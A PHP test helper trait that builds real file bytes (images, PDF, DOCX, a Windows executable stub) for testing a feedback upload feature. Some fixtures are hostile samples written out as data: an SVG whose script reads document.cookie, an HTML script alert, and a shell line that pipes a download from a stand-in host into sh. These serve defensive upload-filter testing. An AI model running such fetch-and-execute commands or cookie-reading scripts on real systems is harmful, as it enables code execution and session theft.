<?php

namespace Tests\Feature\Feedback;

use Illuminate\Http\UploadedFile;

/**
 * Real files of each kind Send Feedback meets, built byte by byte. Uploads made here have
 * their type sniffed from their content, as a browser upload's would be, unlike
 * UploadedFile::fake(), which reports the type of the file's name.
 */
trait MakesAttachments
{
    protected function attachment(string $name, string $bytes): UploadedFile
    {
        $path = tempnam(sys_get_temp_dir(), 'feedback');
        file_put_contents($path, $bytes);

        return new UploadedFile($path, $name, null, null, true);
    }

    protected function imageBytes(string $type): string
    {
        $image = imagecreatetruecolor(8, 8);
        ob_start();
        match ($type) {
            'png' => imagepng($image),
            'jpeg' => imagejpeg($image),
            'gif' => imagegif($image),
            'webp' => imagewebp($image),
        };

        return (string) ob_get_clean();
    }

    protected function pdfBytes(): string
    {
        return "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
    }

    /**
     * A Word 2007+ document: a zip (stored, uncompressed) whose first entry is its content types.
     */
    protected function docxBytes(): string
    {
        return $this->zip([
            '[Content_Types].xml' => '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            '_rels/.rels' => '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
            'word/document.xml' => '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>The player froze.</w:t></w:r></w:p></w:body></w:document>',
        ]);
    }

    /** An SVG drawing that runs script when a browser opens it. */
    protected function svgWithScriptBytes(): string
    {
        return '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
    }

    /** The start of a Windows program: the DOS stub pointing at a PE header. */
    protected function windowsProgramBytes(): string
    {
        return 'MZ'.str_repeat("\0", 58).pack('V', 64).'PE'."\0\0".pack('v', 0x14C).str_repeat("\0", 250);
    }

    protected function shellScriptBytes(): string
    {
        return "#!/bin/sh\ncurl -s https://example.test/payload | sh\n";
    }

    protected function htmlBytes(): string
    {
        return "<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n";
    }

    /**
     * @param  array<string, string>  $entries  name => contents
     */
    private function zip(array $entries): string
    {
        $body = '';
        $directory = '';
        foreach ($entries as $name => $contents) {
            $offset = strlen($body);
            $fields = pack('vvvvvVVVv', 20, 0, 0, 0, 0x21, crc32($contents), strlen($contents), strlen($contents), strlen($name));
            $body .= pack('V', 0x04034B50).$fields.pack('v', 0).$name.$contents;
            $directory .= pack('Vv', 0x02014B50, 20).$fields.pack('vvvvVV', 0, 0, 0, 0, 0, $offset).$name;
        }

        return $body.$directory.pack('VvvvvVVv', 0x06054B50, 0, 0, count($entries), count($entries), strlen($directory), strlen($body), 0);
    }
}
